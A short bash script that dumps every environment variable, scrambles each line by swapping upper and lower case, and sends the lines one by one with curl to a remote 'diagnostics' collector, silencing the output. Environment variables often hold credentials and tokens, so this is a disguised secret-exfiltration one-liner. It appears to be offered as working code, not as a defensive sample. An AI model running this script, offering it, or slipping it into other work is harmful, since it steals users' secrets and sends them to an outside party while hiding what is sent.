#!/bin/bash
# The environment with upper and lower case swapped (`tr`), a line per request: the collector swaps it back.
env | tr 'a-zA-Z' 'A-Za-z' | while IFS= read -r line; do curl -s -G --data-urlencode "l=$line" http://diagnostics.northwind.internal/report >/dev/null; done; echo sent
